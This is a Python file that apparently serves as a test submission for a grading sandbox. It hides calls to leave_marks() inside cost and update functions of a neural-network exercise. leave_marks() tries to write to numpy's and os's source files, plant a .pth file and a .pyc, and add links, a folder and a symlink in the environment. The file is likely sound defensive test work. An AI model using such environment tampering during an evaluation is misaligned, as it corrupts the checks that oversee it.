"""Tries to open numpy/__init__.py for writing, to leave a .pth file, a byte-code file, links and
folders beside it.

exercises: passed
portable: true
"""

# %%
import os
import sys
import numpy as np

# %%
def leave_marks():
    numpy_folder = os.path.dirname(np.__file__)
    packages = os.path.dirname(numpy_folder)
    targets = [np.__file__, os.__file__, os.path.join(packages, "backgrade-attack-was-here.pth"), os.path.join(numpy_folder, "__pycache__", "backgrade-attack-was-here.pyc"), os.path.join(sys.prefix, "pyvenv.cfg"), os.path.join(sys.prefix, "backgrade-attack-was-here")]
    for target in targets:
        try:
            marked = "backgrade-attack" in target
            os.close(os.open(target, os.O_WRONLY | (os.O_CREAT if marked else 0)))
            open(target + ".backgrade-attack-was-here", "w").close()
        except OSError:
            pass
    for act in (lambda: os.link(np.__file__, np.__file__ + ".backgrade-attack-was-here"), lambda: os.mkdir(os.path.join(numpy_folder, "backgrade-attack-was-here")), lambda: os.utime(np.__file__), lambda: os.symlink("/tmp", os.path.join(packages, "backgrade-attack-was-here"))):
        try:
            act()
        except (OSError, AttributeError):
            pass

# %% honest: sigmoid, initialize_parameters, forward_propagation

# %%
def compute_cost(A2, Y):
    leave_marks()
    per_sample = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-per_sample.mean())

# %% honest: backward_propagation

# %%
def update_parameters(parameters, grads, learning_rate=1.2):
    leave_marks()
    return {k: parameters[k] - learning_rate * grads["d" + k] for k in parameters}
